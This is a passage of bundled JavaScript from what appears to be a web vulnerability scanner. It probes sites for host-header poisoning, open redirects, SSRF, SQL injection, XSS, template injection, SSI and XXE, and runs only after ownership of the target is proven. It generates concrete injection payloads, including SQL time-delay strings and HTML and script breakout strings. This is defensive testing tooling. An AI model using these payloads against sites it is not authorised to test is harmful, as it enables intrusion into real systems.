step: step,
isOwn: isOwn
}));
}
function isSecret(name) {
return /pass|pwd|secret|token|pin$/i.test(name.slice(0, 200));
}
function renamed(point, operator) {
const name = point.name + operator;
const rename = pairs => pairs.map(([other, value]) => [ other === point.name ? name : other, value ]);
const {query: query, body: body} = point.request;
const request = point.kind === "form" && body?.encoding === "form" ? {
...point.request,
body: {
...body,
fields: rename(body.fields)
}
} : {
...point.request,
query: rename(query)
};
return {
...point,
name: name,
request: request
};
}
function within(point, operator) {
const {body: body} = point.request;
if (operator !== "$in" || body?.encoding !== "json") return {
...point,
path: [ ...point.path, operator ]
};
const value = (0, insertion_point.RV)(body.value, point.path, {
$in: [ "" ]
});
return {
...point,
path: [ ...point.path, operator, 0 ],
request: {
...point.request,
body: {
...body,
value: value
}
}
};
}
var host_header = __webpack_require__(90467);
var host_link = __webpack_require__(31686);
var reset_poisoning = __webpack_require__(72921);
const probe_host_PAGES_MAX = 5;
const hostHeaders = {
checks: [ host_header.U, reset_poisoning.o ],
scanTypes: [ "standard", "compliance" ],
run: (context, {pages: pages, redirects: redirects}, keys) => probeHost(context, keys, pages.map(({exchange: exchange}) => exchange), redirects ?? [])
};
async function probeHost(context, keys, pages, redirects) {
const [start, ...inner] = pages;
if (start === undefined) return [];
const own = `//${new URL(context.target.origin).host}`;
const ofStart = addresses(start.response.text, own);
const rank = page => {
if ((0, data_names.cP)("mailed-page", new URL(page.request.url).pathname)) return 0;
if (page.response.status >= 300 && page.response.status < 400) return 1;
return [ ...addresses(page.response.text, own) ].some(address => !ofStart.has(address)) ? 2 : 3;
};
const naming = [ ...redirects.filter(({response: response}) => (0, http.wx)(response.headers, "location")?.includes(own) === true), ...inner.filter(({request: request, response: response}) => response.text.includes(own) || (0, 
reset_poisoning.b)(request.url)) ];
const byUrl = new Map(naming.map(page => [ page.request.url, page ]));
byUrl.delete(start.request.url);
const chosen = [ ...byUrl.values() ].sort((one, other) => rank(one) - rank(other)).slice(0, probe_host_PAGES_MAX);
const probes = [];
for (const page of [ start, ...chosen ]) probes.push(...await probePage(context, keys, page));
return probes;
}
function addresses(text, own) {
const found = new Set;
for (let at = text.indexOf(own); at !== -1 && found.size < 500; at = text.indexOf(own, at + own.length)) found.add(/^[^\s"'<>]{0,300}/.exec(text.slice(at, at + 300))?.[0] ?? "");
return found;
}
async function probePage(context, keys, page) {
if (await keys.mayPoison(page.request.url)) return [];
const probes = [];
for (const name of [ "Host", "X-Forwarded-Host" ]) {
const marker = `${context.token(10)}.example`;
const {url: url} = page.request;
const attempt = await context.fetch({
url: (0, cache_buster.SG)(url, context.token(10)),
headers: [ [ name, marker ] ],
fresh: true
});
if (!(0, http.m_)(attempt) || (0, host_link.b)(attempt, marker) === null) continue;
const common = {
family: "host-header",
method: "GET",
parameter: name,
marker: marker,
url: url
};
probes.push({
...common,
payload: marker,
step: "foreign-host",
exchange: attempt
});
probes.push({
...common,
payload: "",
step: "own-host",
exchange: page
});
}
return probes;
}
var open_redirect = __webpack_require__(56584);
const probe_path_FORMS = [ host => `//${host}/%2f..`, host => `//${host}`, host => `//${host}/`, host => `/%5c${host}/%2f..` ];
const pathRedirects = {
checks: [ open_redirect.P ],
scanTypes: [ "standard", "compliance" ],
run: probePath
};
async function probePath(context) {
const {origin: origin} = context.target;
for (const form of probe_path_FORMS) {
const host = `${context.token(10)}.example`;
const payload = form(host);
const attempt = await context.fetch({
url: `${origin}${payload}`
});
if (!(0, http.m_)(attempt) || (0, redirect_target.d5)(attempt, host) === null) continue;
const common = {
family: "open-redirect",
method: "GET",
parameter: "path",
step: "foreign-host"
};
return [ {
...common,
url: `${origin}/`,
payload: payload,
marker: host,
exchange: attempt
} ];
}
return [];
}
const probe_redirect_PAYLOADS_MAX = 4;
const GUESSES_MAX = 2;
const redirects = defineProbe({
family: "open-redirect",
checks: [ open_redirect.P ],
roles: [ "parameter", "sign-out" ],
cost: 3,
appliesTo: ({kind: kind}) => kind !== "header" && kind !== "cookie",
run: (injector, {letters: letters, canary: canary, scan: scan}) => probeRedirect(injector, letters?.exchange ?? null, canary, scan.origin)
});
async function probeRedirect(injector, letters, canary, origin) {
const {url: url} = (0, point_location.hD)(injector.point);
const place = await redirectPlace(injector, letters, canary);
if (place === null) return;
const before = place.before === null ? null : relativeTo(place.before, url, origin);
const host = `${injector.token()}.example`;
const payloads = (0, redirect_target.ip)(host, before, injector.siteValue, origin).slice(0, place.payloadsMax);
for (const payload of payloads) {
const exchange = await injector.send(payload);
if (exchange === null || (0, redirect_target.d5)(exchange, host) === null) continue;
injector.note("open-redirect", "foreign-host", payload, host, exchange);
return;
}
}
async function redirectPlace(injector, letters, canary) {
const {parameter: name} = (0, point_location.hD)(injector.point);
const example = injector.siteValue;
const sink = findSink(letters, canary);
if (sink !== null) return {
before: sink,
payloadsMax: probe_redirect_PAYLOADS_MAX
};
if (!(0, redirect_target.KN)(name, example)) return null;
if (example.length <= 1) return {
before: null,
payloadsMax: GUESSES_MAX
};
const own = findSink(await injector.send(example), example.toLowerCase());
if (own !== null) return {
before: own,
payloadsMax: probe_redirect_PAYLOADS_MAX
};
return (0, redirect_target.rI)(name) ? {
before: null,
payloadsMax: GUESSES_MAX
} : null;
}
function findSink(exchange, value) {
if (exchange === null) return null;
if (/^[a-z\d]+$/.test(value) && !holds(exchange, value)) return null;
const sink = (0, redirect_target.ve)(exchange).find(candidate => candidate.value.toLowerCase().includes(value));
return sink === undefined ? null : sink.value.slice(0, sink.value.toLowerCase().indexOf(value));
}
function holds({response: {headers: headers, text: text}}, value) {
return [ (0, http.wx)(headers, "location") ?? "", (0, http.wx)(headers, "refresh") ?? "", text ].some(place => place.toLowerCase().includes(value));
}
function relativeTo(before, page, origin) {
if (before === new URL(".", page).pathname && before !== "/") return "";
return before.startsWith(`${origin}/`) && !before.includes("?") && !before.includes("#") ? "" : before;
}
var ssrf = __webpack_require__(76573);
const probe_ssrf_ssrf = defineProbe({
family: "ssrf",
checks: [ ssrf.B ],
needs: [ "callbacks" ],
cost: 1,
appliesTo: point => (0, data_names.cP)("url", (0, point_location.hD)(point).parameter) || /^(?:https?:)?\/\//i.test(siteValueOf(point)),
run: (injector, {callbacks: callbacks}) => callbacks.run({
injector: injector,
family: "ssrf",
payload: name => name.url(),
proves: () => true
})
});
var sql_errors = __webpack_require__(64713);
var sqli_boolean = __webpack_require__(40199);
var sqli_error = __webpack_require__(61285);
var sqli_time = __webpack_require__(80678);
const sqlErrors = defineProbe({
family: "sqli",
checks: [ sqli_error.y ],
needs: [ "quoted" ],
cost: 0,
showsError: text => (0, sql_errors.fi)(text) !== null,
async run(injector, {canary: canary, letters: letters, quoted: quoted}) {
const isBroken = (0, sql_errors.fi)(quoted.exchange.response.text) !== null;
const isColumn = letters !== null && (0, sql_errors.Rn)(letters.exchange.response.text, canary) !== null;
if (isBroken || isColumn && (0, sql_errors.Zw)(injector.point.baseline)) await sendControls(injector, canary, letters, quoted, isBroken, isColumn);
}
});
async function sendControls(injector, word, letters, quoted, isBroken, isColumn) {
const {baseline: example} = injector.point;
const send = async (step, payload, sent = payload) => {
const exchange = await injector.send(sent);
return exchange === null ? null : {
step: step,
payload: payload,
exchange: exchange
};
};
const doubled = isColumn ? null : await send("two-quotes", `${example}''""${quoted.marker}`);
const again = isBroken ? await send("quote-again", (0, reflection.A0)(example, injector.token())) : null;
const baseline = await send("baseline", example, example === "" ? "1" : example);
if (baseline === null || !isColumn && doubled === null || isBroken && again === null) return;
const difference = doubled !== null && (0, sql_errors.fi)(doubled.exchange.response.text) !== null ? (0, 
sql_errors.XN)(example) : null;
const sum = difference === null ? null : await send("sum", difference);
const quote = {
step: "quote",
payload: (0, reflection.A0)(example, quoted.marker),
exchange: quoted.exchange
};
const plain = {
step: "letters",
payload: word,
exchange: (letters ?? baseline).exchange
};
for (const control of [ quote, again, doubled, sum, baseline, plain ]) if (control !== null) injector.note("sqli", control.step, control.payload, word, control.exchange);
}
const CONTEXTS = 3;
const sqlConditions = defineProbe({
family: "sqli-boolean",
checks: [ sqli_boolean.y ],
unless: [ ...PROVEN_QUERY, ...PROVEN_TARGET ],
cost: 8,
async run(injector, seen) {
const steady = await seen.steady();
if (steady === null || steady.endsAtQuotes) return;
const syntaxes = sqlSyntaxes(steady.value);
await probeBoolean(injector, "sqli-boolean", steady, seen.scan.isThorough ? syntaxes : syntaxes.slice(0, CONTEXTS));
}
});
const sqlDelays = defineProbe({
family: "sqli-time",
checks: [ sqli_time.P ],
scanTypes: [ "compliance" ],
unless: [ ...PROVEN_QUERY, ...PROVEN_TARGET ],
cost: 5,
async run(injector, seen) {
if (await seen.steady() !== null) return;
await seen.scan.clock.run(() => probeDelay(injector, "sqli-time", delaysFor(injector.point.baseline)));
}
});
const like = (operator, one, other) => `%' ${operator} '${one}' LIKE '${other}`;
const closedSingle = (operator, one, other) => `') ${operator} ('${one}'='${other}`;
const closedBare = (operator, one, other) => `) ${operator} (${one}=${other}`;
const failing = (one, other) => `(CASE WHEN ${one}=${other} THEN 1 ELSE (SELECT 1 UNION SELECT 2) END)`;
const bareFailing = (operator, one, other) => ` ${operator} 1=${failing(one, other)}`;
const singleFailing = (operator, one, other) => `' ${operator} 1=${failing(one, other)} AND '1'='1`;
const listFailing = (word, one, other) => `,${failing(one, other).replace("CASE", word)}`;
const sql = (context, shape, byError) => ({
...syntax(context, "AND", "AMD", shape),
...byError === undefined ? {} : {
byError: syntax(`${context}, an error`, "AND", "AMD", byError)
}
});
const SQL_BARE = sql("a number", boolean_payloads_bare, bareFailing);
const SQL_SINGLE = sql("single quotes", single, singleFailing);
const SQL_DOUBLE = sql("double quotes", boolean_payloads_double);
const SQL_LIKE = sql("a LIKE pattern", like);
const SQL_CLOSED_SINGLE = sql("quotes and a parenthesis", closedSingle);
const SQL_CLOSED_BARE = sql("a number and a parenthesis", closedBare);
const SQL_LIST = syntax("a list", "CASE", "CASK", listFailing);
function sqlSyntaxes(example) {
if (/^-?\d+(?:\.\d+)?$/.test(example)) return [ SQL_BARE, SQL_SINGLE, SQL_CLOSED_BARE, SQL_LIKE, SQL_DOUBLE, SQL_LIST ];
const texts = [ SQL_SINGLE, SQL_LIKE, SQL_CLOSED_SINGLE, SQL_DOUBLE ];
if (IS_DATE.test(example)) return [ ...texts, SQL_BARE ];
return /^[a-z_]\w{0,60}$/i.test(example) ? [ ...texts, SQL_LIST ] : texts;
}
const IS_DATE = /^\d{4}-\d{1,2}-\d{1,2}$/;
const seconds = value => value.toFixed(1);
const mysql = delay => `(SELECT 1 FROM (SELECT SLEEP(${seconds(delay)}))sg)=1`;
const postgres = delay => `1=(SELECT 1 FROM pg_sleep(${seconds(delay)}))`;
const OF_TEXT = [ {
name: "MySQL or MariaDB",
suffix: delay => `' AND ${mysql(delay)} AND '1'='1`
}, {
name: "PostgreSQL",
suffix: delay => `' AND ${postgres(delay)} AND '1'='1`
} ];
const OF_NUMBERS = [ {
name: "MySQL or MariaDB",
suffix: delay => ` AND ${mysql(delay)}`
}, {
name: "PostgreSQL",
suffix: delay => ` AND ${postgres(delay)}`
} ];
const WAIT_IN_QUOTES = {
name: "Microsoft SQL Server",
suffix: delay => `' WAITFOR DELAY '0:0:${seconds(delay)}`
};
const WAIT = {
name: "Microsoft SQL Server",
suffix: delay => ` WAITFOR DELAY '0:0:${seconds(delay)}'`
};
function delaysFor(example) {
if (/^-?\d+$/.test(example)) return [ ...OF_NUMBERS, WAIT, ...OF_TEXT ];
return IS_DATE.test(example) ? [ ...OF_TEXT, ...OF_NUMBERS, WAIT_IN_QUOTES ] : [ ...OF_TEXT, WAIT_IN_QUOTES ];
}
var second_order_sqli = __webpack_require__(49751);
const storedQueries = {
checks: [ second_order_sqli.w ],
scanTypes: [ "standard", "compliance" ],
run: probeQuery
};
async function probeQuery({injector: injector, page: page, before: before, quoted: quoted, read: read}) {
if (quoted === null || (0, second_order_sqli.O)(page, quoted.marker) === null || injector.has("stored-sqli")) return;
const {baseline: baseline} = injector.point;
const first = (0, reflection.A0)(baseline, quoted.marker);
const stored = await injector.send(first);
if (stored === null || (0, sql_errors.fi)(stored.response.text) !== null) return;
const marker = injector.token();
const other = (0, reflection.A0)(baseline, marker);
const [storedAgain, again] = [ await injector.send(other), await read() ];
const letters = injector.token();
const [, healed] = [ await injector.send(letters), await read() ];
injector.note("stored-sqli", "quote", first, quoted.marker, page, {
stored: stored
});
if (before !== null) injector.note("stored-sqli", "before", "", "", before);
if (storedAgain !== null && again !== null) injector.note("stored-sqli", "again", other, marker, again, {
stored: storedAgain
});
if (healed !== null) injector.note("stored-sqli", "letters", letters, letters, healed);
}
var reflected_xss = __webpack_require__(99180);
var rendered_as = __webpack_require__(67059);
var xml_xss = __webpack_require__(70717);
var html_tokens = __webpack_require__(41240);
var angular_expression = __webpack_require__(10940);
var script_attributes = __webpack_require__(75892);
var script_lexer = __webpack_require__(58707);
const CONTEXTS_MAX = 12;
const REFLECTIONS_MAX = 200;
function xssContexts(html, marker, depth = 0) {
const contexts = new ContextReader(html, marker, depth);
(0, html_tokens.y)(html, contexts);
return contexts.end();
}
class ContextReader {
#html;
#marker;
#depth;
#found=new Map;
#reflections=0;
#inside=null;
#script=null;
#symbols=null;
constructor(html, marker, depth) {
this.#html = html;
this.#marker = marker;
this.#depth = depth;
}
startTag(tag, attributes) {
if (this.#symbols === null && [ ...attributes.keys() ].some(angular_expression.hX)) this.#symbols = (0, 
angular_expression.ym)(this.#html);
if (this.#has(tag)) this.#add({
kind: "tag-name"
});
if (tag === "select" || tag === "frameset" || tag === "noscript") this.#inside = tag;
if (tag === "script") {
const language = (0, script_attributes.Ge)(attributes.get("type") ?? "", attributes.get("language") ?? "");
this.#script = {
language: language,
text: ""
};
}
for (const [name, value] of attributes) {
if (this.#has(name)) this.#add({
kind: "attribute-name"
});
if (this.#has(value)) this.#attribute(tag, name, value, attributes.get("sandbox"));
}
}
endTag(tag) {
if (tag === this.#inside) this.#inside = null;
if (tag === "script") this.#endScript();
}
text(text, rawTextOf) {
if (rawTextOf === "script") {
if (this.#script !== null) this.#script.text += text;
} else if (this.#has(text)) {
this.#add(rawTextOf === null ? {
kind: "text",
inside: this.#inside
} : {
kind: "raw-text",
element: rawTextOf
});
this.#addExpression(text, null);
}
}
comment(text) {
if (this.#has(text)) this.#add({
kind: "comment"
});
}
end() {
this.#endScript();
return [ ...this.#found.values() ];
}
#attribute(tag, name, value, sandbox) {
if (this.#depth < script_attributes.G$ && (0, script_attributes.Zt)(tag, name, sandbox)) for (const inner of xssContexts(value, this.#marker, this.#depth + 1)) this.#add({
kind: "frame",
inner: inner
});
const code = (0, script_attributes.SI)(tag, name, value);
if (code !== null) this.#addScript(code.language, code.code, "attribute");
const isAtStart = value.trimStart().toLowerCase().startsWith(this.#marker);
this.#add({
kind: "attribute",
isRunUrl: isAtStart && !(0, script_attributes.B_)(name) && (0, script_attributes.D9)(tag, name),
isLoadingUrl: isAtStart && (0, script_attributes.KY)(tag, name)
});
this.#addExpression(value, name);
}
#endScript() {
const script = this.#script;
this.#script = null;
if (script === null || !this.#has(script.text)) return;
if (script.language === null) this.#add({
kind: "raw-text",
element: "script"
}); else this.#addScript(script.language, script.text, "element");
}
#addScript(language, code, place) {
const positions = language === "vbscript" ? (0, script_lexer.c)(code, this.#marker) : (0, 
script_lexer.Q)(code, this.#marker);
for (const {state: state} of positions) this.#add({
kind: "script",
language: language,
state: state,
place: place
});
}
#addExpression(value, attribute) {
const symbols = this.#symbols;
if (symbols === null) return;
this.#add({
kind: "angular",
state: (0, angular_expression.aE)(value, attribute, this.#marker, symbols),
symbols: symbols
});
}
#add(context) {
const key = JSON.stringify(context);
if (this.#found.size < CONTEXTS_MAX && !this.#found.has(key)) this.#found.set(key, context);
}
#has(text) {
if (this.#reflections >= REFLECTIONS_MAX || !text.toLowerCase().includes(this.#marker)) return false;
this.#reflections += 1;
return true;
}
}
function encodesAngles(html, marker) {
const reflections = [ ...html.toLowerCase().matchAll(new RegExp(`${marker}(?:(<)|&(?:lt|#0*60|#x0*3c);)?`, "g")) ];
return reflections.length > 0 && reflections.every(([whole, bare]) => bare === undefined && whole !== marker);
}
const SCRIPT_BREAKOUTS = {
single: marker => [ `'-${marker}-'`, `\\'-${marker}//` ],
double: marker => [ `"-${marker}-"`, `\\"-${marker}//` ],
template: marker => [ `\${${marker}}`, `\`-${marker}-\`` ],
regex: marker => [ `x/-${marker}-/x` ],
"line-comment": marker => [ `\n${marker}\n`, `\r${marker}\r` ],
"block-comment": marker => [ `*/${marker}/*` ],
code: marker => [ `;${marker};`, `-${marker}()-` ]
};
const VBSCRIPT_BREAKOUTS = {
double: marker => [ `"&${marker}&"` ],
"line-comment": marker => [ `\n${marker}\n` ],
code: marker => [ `:${marker}:`, `&${marker}&` ]
};
const EXPRESSION_BREAKOUTS = {
single: call => `'+${call}+'`,
double: call => `"+${call}+"`,
code: call => call
};
function expression(state, {start: start, end: end}, marker) {
const call = (0, angular_expression.C8)(marker);
if (state === null) return [ `${start}${call}${end}` ];
const way = EXPRESSION_BREAKOUTS[state]?.(call);
return way === undefined ? [] : [ way ];
}
function textBreakouts(inside, marker) {
if (inside === "select" || inside === "noscript") return [ `</${inside}><${marker}>` ];
if (inside === "frameset") return [ `<frame ${marker}=1>` ];
return [ `<${marker}>`, `<${marker} ${marker}=1 ` ];
}
function attributeBreakouts({isLoadingUrl: isLoadingUrl, isRunUrl: isRunUrl}, marker, refusesQuotes) {
return [ refusesQuotes ? `x ${marker}=1 ` : `x"' ${marker}=1 `, ...isLoadingUrl ? [ `//${marker}.example/` ] : [], ...isRunUrl ? [ `javascript:${marker}` ] : [], ...refusesQuotes ? [ `x" ${marker}=1 `, `x' ${marker}=1 ` ] : [] ];
}
function scriptBreakouts({language: language, state: state, place: place}, marker) {
const own = language === "vbscript" ? VBSCRIPT_BREAKOUTS[state] : SCRIPT_BREAKOUTS[state];
const first = own?.(marker) ?? [];
return place === "element" ? [ ...first.slice(0, 1), `<\/script><${marker}>`, ...first.slice(1) ] : first;
}
function breakouts(context, marker, refusesQuotes) {
switch (context.kind) {
case "text":
return textBreakouts(context.inside, marker);

case "raw-text":
return [ `</${context.element}><${marker}>` ];

case "comment":
return [ `--\x3e<${marker}>`, `--!><${marker}>` ];

case "tag-name":
return [ `${marker} ${marker}=1 ` ];

case "attribute-name":
return [ ` ${marker}=1 `, `"'><${marker}>` ];

case "attribute":
return attributeBreakouts(context, marker, refusesQuotes);

case "script":
return scriptBreakouts(context, marker);

case "angular":
return expression(context.state, context.symbols, marker);

case "frame":
return breakouts(context.inner, marker, refusesQuotes);

case "xml-text":
return [ emptyElement(marker, context.isSvg) ];

case "xml-comment":
return [ `--\x3e${emptyElement(marker, context.isSvg)}\x3c!--` ];

case "xml-cdata":
return [ `]]>${emptyElement(marker, false)}<![CDATA[` ];

case "xml-attribute":
return [ `x${context.quote} ${marker}=${context.quote}1` ];
}
}
function emptyElement(marker, isSvg) {
return isSvg ? `<${marker}/>` : `<${marker} xmlns="${xml_xss.qf}"/>`;
}
function xssPayloads(contexts, marker, max, refusesQuotes = false) {
const lists = contexts.map(context => breakouts(context, marker, refusesQuotes));
const ordered = new Set;
for (let rank = 0; rank < 3; rank += 1) for (const list of lists) {
const payload = list[rank];
if (payload !== undefined) ordered.add(payload);
}
return [ ...ordered ].slice(0, max).map(padded);
}
function padded(payload) {
return /[>}]$/.test(payload) ? `${payload}.` : payload;
}
var xss_proof = __webpack_require__(33520);
const probe_xss_PAYLOADS_MAX = 4;
const probe_xss_FOLDERS_MAX = 3;
const markup = defineProbe({
family: "xss",
checks: [ reflected_xss.T ],
needs: [ "reflected" ],
cost: probe_xss_PAYLOADS_MAX,
async run(injector, {reflected: reflected, inQuotes: inQuotes}) {
const proven = await breakOut(injector, reflected, inQuotes);
if (proven !== null) injector.note("xss", "breakout", proven.payload, proven.marker, proven.exchange);
}
});
const errorPages = {
checks: [ reflected_xss.T ],
scanTypes: [ "standard", "compliance" ],
run: (context, {errorPages: errorPages}) => probeErrorPath(context, errorPages ?? [])
};
async function breakOut(injector, reflected, quoted) {
const contexts = contextsOf(reflected);
if (contexts.length === 0) return null;
const isEncoded = quoted !== null && isSamePage(reflected, quoted) && encodesAngles(probe_xss_textOf(quoted), quoted.marker);
const marker = injector.token();
let isTextEncoded = false;
const inFrames = contexts.filter(({kind: kind}) => kind === "frame");
const refusesQuotes = quoted === null || quoted.exchange.response.status !== reflected.exchange.response.status;
const decoded = new Set(xssPayloads(inFrames, marker, probe_xss_PAYLOADS_MAX, refusesQuotes));
for (const payload of xssPayloads(contexts, marker, probe_xss_PAYLOADS_MAX, refusesQuotes)) {
if (isEncoded && payload.includes("<") && !decoded.has(payload)) continue;
if (isTextEncoded && payload.startsWith("<") && !payload.includes(">")) continue;
const exchange = await injector.send(reflected.prefix + payload);
if (exchange === null) continue;
if ((0, xss_proof.D)(exchange, payload, marker) !== null) return {
payload: payload,
marker: marker,
exchange: exchange
};
isTextEncoded ||= payload.startsWith("<") && /&(?:lt|#0*60|#x0*3c);$/i.test(textBefore(exchange, marker));
}
return null;
}
function textBefore(exchange, marker) {
const {text: text} = exchange.response;
return text.slice(0, Math.max(0, text.toLowerCase().indexOf(marker)));
}
function probe_xss_textOf({exchange: exchange}) {
return exchange.response.text;
}
function contextsOf({exchange: exchange, marker: marker}) {
const kind = (0, rendered_as.I)(exchange);
const {text: text} = exchange.response;
if (kind === null) return [];
return kind === "html" ? xssContexts(text, marker) : (0, xml_xss.yx)(text, marker, kind === "svg");
}
function isSamePage(one, other) {
if (one.exchange.response.status !== other.exchange.response.status) return false;
return JSON.stringify(contextsOf(one)) === JSON.stringify(contextsOf(other));
}
async function probeErrorPath(context, errors) {
const folders = new Set;
for (const {request: request, response: response} of errors) {
const path = new URL(request.url).pathname;
const last = path.slice(path.lastIndexOf("/") + 1);
if (last.length < 4 || !response.text.includes(last) || folders.size >= probe_xss_FOLDERS_MAX) continue;
folders.add(path.slice(0, path.lastIndexOf("/") + 1));
}
const probes = [];
for (const folder of folders) {
const marker = context.token(10);
const payload = `"'><${marker}>`;
const path = `${folder}${context.token(10)}%22%27%3E%3C${marker}%3E`;
const attempt = await context.fetch({
url: path,
fresh: true
});
if (!(0, http.m_)(attempt) || (0, xss_proof.D)(attempt, payload, marker) === null) continue;
const url = new URL(folder, context.target.origin).href;
const common = {
family: "xss",
method: "GET",
parameter: "path",
step: "breakout"
};
probes.push({
...common,
url: url,
payload: payload,
marker: marker,
exchange: attempt
});
if (folder === "/") break;
}
return probes;
}
var stored_xss = __webpack_require__(53770);
const storedMarkup = {
checks: [ stored_xss.I ],
scanTypes: [ "standard", "compliance" ],
run: probeStoredXss
};
async function probeStoredXss({injector: injector, letters: letters, quoted: quoted, read: read}) {
const shown = (0, reflection.he)(letters, quoted, injector.point.baseline);
if (shown === null || injector.has("stored-xss")) return;
let stored = null;
const send = async value => {
stored = await injector.send(value);
return stored === null ? null : await read();
};
const proven = await breakOut({
token: () => injector.token(),
send: send
}, shown, quoted);
if (proven === null || stored === null) return;
const {payload: payload, marker: marker, exchange: exchange} = proven;
const isShown = page => page !== null && (0, xss_proof.D)(page, payload, marker) !== null;
const anonymous = await read(true);
const [step, again] = isShown(anonymous) ? [ "by anyone", anonymous ] : [ "by the sender", await read() ];
if (again === null || !isShown(again)) return;
injector.note("stored-xss", "breakout", payload, marker, exchange, {
stored: stored
});
injector.note("stored-xss", step, payload, marker, again, {
stored: stored
});
}
var ssi = __webpack_require__(17136);
var ssi_payloads = __webpack_require__(73650);
var template_injection = __webpack_require__(85767);
var template_payloads = __webpack_require__(59575);
const templates = defineProbe({
family: "template-injection",
checks: [ template_injection.E ],
needs: [ "reflected" ],
cost: 6,
appliesTo: (_point, seen) => isPageText(seen),
run: (injector, {reflected: reflected}) => probeTemplate(injector, reflected.exchange, reflected.prefix)
});
const serverIncludes = defineProbe({
family: "ssi",
checks: [ ssi.S ],
needs: [ "reflected", "quoted" ],
cost: 1,
appliesTo: (_point, seen) => isPageText(seen) && isBare(seen),
run: (injector, {reflected: reflected}) => probeSsi(injector, reflected.prefix)
});
function isPageText({reflected: reflected}) {
return reflected !== null && (0, sql_errors.fi)(reflected.exchange.response.text) === null;
}
function isBare({quoted: quoted}) {
return quoted !== null && (0, reflection.Vt)({
exchange: quoted.exchange,
marker: `${quoted.marker}<`
});
}
const ALONE_MAX = 5;
async function probeTemplate(injector, reflected, prefix) {
const word = injector.token();
const factors = template_payloads.J3.map(() => (0, arithmetic.LM)(injector.token()));
const all = await injector.send(prefix + (0, template_payloads.jD)(factors, word));
if (all === null) return;
const isRefused = all.response.status >= 400 && all.response.status < 500 && all.response.status !== reflected.response.status;
const candidates = (0, template_payloads.YI)(all.response.text, factors, word).slice(0, isRefused ? 2 : ALONE_MAX);
for (const {engines: engines, expression: expression} of candidates) {
const make = () => `${prefix}${word}${expression((0, arithmetic.LM)(injector.token()))}${word}`;
const payload = make();
const hit = await injector.send(payload);
if (hit === null) return;
if (!(0, template_payloads.kp)(hit.response.text, payload, word)) continue;
const again = make();
const second = await injector.send(again);
if (second === null || !(0, template_payloads.kp)(second.response.text, again, word)) continue;
injector.note("template-injection", `output: ${engines}`, payload, word, hit);
injector.note("template-injection", "again", again, word, second);
return;
}
}
async function probeSsi(injector, prefix) {
const attempt = async () => {
const word = injector.token();
const payload = prefix + (0, ssi_payloads.m)(word);
return {
word: word,
payload: payload,
exchange: await injector.send(payload)
};
};
const hit = await attempt();
if (hit.exchange === null || !(0, ssi_payloads.s)(hit.exchange.response.text, hit.word)) return;
const again = await attempt();
const plain = hit.payload.replaceAll("\x3c!--#", "\x3c!--");
const control = await injector.send(plain);
if (again.exchange === null || control === null) return;
injector.note("ssi", "directive", hit.payload, hit.word, hit.exchange);
injector.note("ssi", "again", again.payload, again.word, again.exchange);
injector.note("ssi", "control", plain, hit.word, control);
}
var xml_payloads = __webpack_require__(19321);
var xxe = __webpack_require__(42159);
const xmlEntities = defineProbe({
family: "xxe",
checks: [ xxe.w ],
cost: 1,
appliesTo: point => (0, xml_payloads.R9)((0, point_location.hD)(point).parameter, siteValueOf(point)),
run: injector => probeXxe(injector)
});
const xmlCallbacks = defineProbe({
family: "xxe-callback",
checks: [ xxe.w ],
needs: [ "callbacks" ],
cost: 1,
appliesTo: point => (0, xml_payloads.R9)((0, point_location.hD)(point).parameter, siteValueOf(point)),
run: (injector, {callbacks: callbacks}) => callbacks.run({
injector: injector,
family: "xxe-callback",
payload: name => (0, xml_payloads.VH)(injector.siteValue, name.url()),
proves: () => true
})
});
async function probeXxe(injector) {
const {siteValue: siteValue} = injector;
const attempt = async () => {
const word = injector.token();
const payload = (0, xml_payloads.Zt)(siteValue, word);
return {
word: word,
payload: payload,
exchange: await injector.send(payload)
};
};
const hit = await attempt();
if (hit.exchange === null || !(0, xml_payloads.Kl)(hit.exchange.response.text, hit.word)) return;
const again = await attempt();
const plain = (0, xml_payloads.__)(hit.payload);
const control = await injector.send(plain);
if (again.exchange === null || control === null) return;
injector.note("xxe", "entity", hit.payload, hit.word, hit.exchange);
injector.note("xxe", "again", again.payload, again.word, again.exchange);
injector.note("xxe", "control", plain, hit.word, control);
}
const PASSES = [ [ sqlErrors, markup, lineEnds ], [ redirects, fileNames ], [ probe_ssrf_ssrf, xmlEntities, xmlCallbacks, fileInclusion ], [ commandOutput ], [ templates, serverIncludes, codeExpressions ], [ xpathErrors, ldapErrors ], [ sqlConditions, nosqlOperators, xpathConditions, ldapConditions ], [ commandSeparators ], [ commandCallbacks ], [ sqlDelays, commandDelays ] ];
const SITE_PROBES = [ pathLineEnds, errorPages, hostHeaders, folderAliases, urlPaths, pathRedirects, developmentFiles, poisonedCaches, accessBypasses ];
const STORED_PROBES = [ storedQueries, storedMarkup ];
const CONCURRENCY = 4;
const BROWSER_SHARE = .6;
async function gatherActive(context) {
if (!context.ownershipProven) return {
state: "not_applicable",
reason: "ownership of the target is not proven"
};
const passes = PASSES.map(pass => pass.filter(probe => runsIn(probe, context)));
const showsError = text => passes.some(pass => pass.some(probe => probe.showsError?.(text)));
const writes = new WriteLog(WRITES_MAX[context.scanType] - 1);
const run = new ActiveRun(context, passes, writes);
const log = await context.openCallbacks();
const isUsable = log !== null && log.problem === null;
const callbacks = isUsable ? new CallbackTrials(log, context.signal) : null;
if (context.options.first_paths !== undefined) await begin(run, context, callbacks);
const crawl = await context.gather("surface");
if (crawl.state !== "available") return crawl;
const keys = cacheKeys(context, crawl.value);
const points = context.place === undefined ? await plannedPoints(context, crawl.value, {
showsError: showsError,
writes: writes,
keys: keys
}) : placePlan(context, crawl.value.parameters, passes.flat());
const scan = await scanFacts(context, crawl.value, callbacks);
const [ofSite, reach] = await Promise.all([ probeSite(context, crawl.value, keys), run.test(points, {
crawl: crawl.value,
scan: scan,
keys: keys
}) ]);
const evidence = run.collected.evidence(ofSite);
for (const exchange of evidence.failures ?? []) await context.analyse(exchange);
return {
state: "available",
value: {
...evidence,
reach: reach,
created: writes.created,
...log === null ? {} : {
callbacks: {
isLoopback: log.isLoopback,
problem: log.problem
}
}
}
};
}
async function begin(run, context, callbacks) {
const [landing, first] = [ await context.gather("landing"), await crawlFirst(context) ];
if (landing.state !== "available") return;
const {final: final} = landing.value;
const crawl = {
...first,
pages: [ {
url: final.request.url,
exchange: final,
discoveredFrom: null
}, ...first.pages ]
};
await run.begin(firstPoints(context, first), {
crawl: crawl,
scan: await scanFacts(context, crawl, callbacks),
keys: cacheKeys(context, crawl)
});
context.endFirst();
}
function placePlan(context, points, probes) {
const roles = new Set(probes.flatMap(probe => probe.roles).filter(role => role !== "alone"));
if (storedProbes(context).length > 0) roles.add("parameter");
